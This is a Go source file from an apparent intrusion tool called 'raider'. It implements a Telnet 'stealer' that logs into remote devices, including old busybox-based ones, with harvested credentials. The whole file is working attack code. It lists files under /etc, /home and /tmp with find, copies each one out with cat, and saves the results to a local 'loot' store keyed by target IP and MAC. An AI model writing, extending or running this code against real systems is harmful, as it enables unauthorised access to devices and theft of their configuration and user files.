package steal

import (
	"context"
	"fmt"
	"regexp"
	"strings"
	"time"

	"raider/internal/core/loot"
	"raider/internal/core/model"
	"raider/internal/pkg/logger"

	"github.com/ziutek/telnet"
)

// TelnetStealer Telnet 文件窃取器
// 登录拿到 shell 后 find + cat，输出按提示符切分
// 老设备的 busybox shell 也适用，不假设有 scp/sftp
type TelnetStealer struct {
	files  *loot.FileStore
	limits Limits

	rePrompt *regexp.Regexp
}

func NewTelnetStealer(files *loot.FileStore, limits Limits) *TelnetStealer {
	return &TelnetStealer{
		files:    files,
		limits:   limits,
		rePrompt: regexp.MustCompile(`[#$>%]\s*$`),
	}
}

func (s *TelnetStealer) Protocol() string {
	return "telnet"
}

func (s *TelnetStealer) Steal(ctx context.Context, target *model.Target, port int, cred model.CredentialRecord) (int, error) {
	conn, err := telnet.DialTimeout("tcp", fmt.Sprintf("%s:%d", target.IP, port), 10*time.Second)
	if err != nil {
		return 0, fmt.Errorf("telnet dial failed: %w", err)
	}
	defer conn.Close()

	if err := s.login(conn, cred); err != nil {
		return 0, err
	}

	paths, err := s.findFiles(conn)
	if err != nil {
		return 0, err
	}

	grabbed := 0
	for _, remote := range paths {
		select {
		case <-ctx.Done():
			return grabbed, ctx.Err()
		default:
		}
		if s.limits.MaxFilesPerHost > 0 && grabbed >= s.limits.MaxFilesPerHost {
			break
		}
		if !s.limits.WantFile(remote) {
			continue
		}

		content, err := s.run(conn, fmt.Sprintf("cat %s", shellQuote(remote)))
		if err != nil {
			logger.Debugf("telnet cat %s failed on %s: %v", remote, target.IP, err)
			continue
		}
		if !s.limits.SizeOK(int64(len(content))) {
			continue
		}

		local, err := s.files.Save("telnet", target.MAC, target.IP, remote, strings.NewReader(content))
		if err != nil {
			logger.Warnf("telnet loot save failed for %s: %v", remote, err)
			continue
		}
		logger.Infof("telnet loot %s -> %s", remote, local)
		grabbed++
	}
	return grabbed, nil
}

func (s *TelnetStealer) login(conn *telnet.Conn, cred model.CredentialRecord) error {
	conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	if err := conn.SkipUntil("ogin:", "sername:"); err != nil {
		return fmt.Errorf("telnet no login prompt: %w", err)
	}
	fmt.Fprintf(conn, "%s\r\n", cred.Username)

	conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	if err := conn.SkipUntil("assword:"); err != nil {
		return fmt.Errorf("telnet no password prompt: %w", err)
	}
	fmt.Fprintf(conn, "%s\r\n", cred.Password)

	conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	if _, err := s.readToPrompt(conn); err != nil {
		return fmt.Errorf("telnet login failed: %w", err)
	}
	return nil
}

func (s *TelnetStealer) findFiles(conn *telnet.Conn) ([]string, error) {
	limit := s.limits.MaxFilesPerHost
	if limit <= 0 {
		limit = 100
	}
	output, err := s.run(conn, fmt.Sprintf("find /etc /home /tmp -type f 2>/dev/null | head -n %d", limit*4))
	if err != nil {
		return nil, fmt.Errorf("remote find failed: %w", err)
	}

	var paths []string
	for _, line := range strings.Split(output, "\n") {
		line = strings.TrimSpace(line)
		if strings.HasPrefix(line, "/") {
			paths = append(paths, line)
		}
	}
	return paths, nil
}

// run 执行命令并收集到下一个提示符为止的输出
func (s *TelnetStealer) run(conn *telnet.Conn, cmd string) (string, error) {
	if _, err := conn.Write([]byte(cmd + "\r\n")); err != nil {
		return "", err
	}
	conn.SetReadDeadline(time.Now().Add(10 * time.Second))
	raw, err := s.readToPrompt(conn)
	if err != nil {
		return "", err
	}
	// 去掉回显的命令行和末尾的提示符行
	lines := strings.Split(raw, "\n")
	if len(lines) > 0 && strings.Contains(lines[0], cmd) {
		lines = lines[1:]
	}
	if len(lines) > 0 && s.rePrompt.MatchString(lines[len(lines)-1]) {
		lines = lines[:len(lines)-1]
	}
	return strings.Join(lines, "\n"), nil
}

func (s *TelnetStealer) readToPrompt(conn *telnet.Conn) (string, error) {
	var buf []byte
	b := make([]byte, 256)
	for {
		n, err := conn.Read(b)
		if n > 0 {
			buf = append(buf, b[:n]...)
			if s.rePrompt.Match(buf) {
				return string(buf), nil
			}
		}
		if err != nil {
			return string(buf), err
		}
	}
}
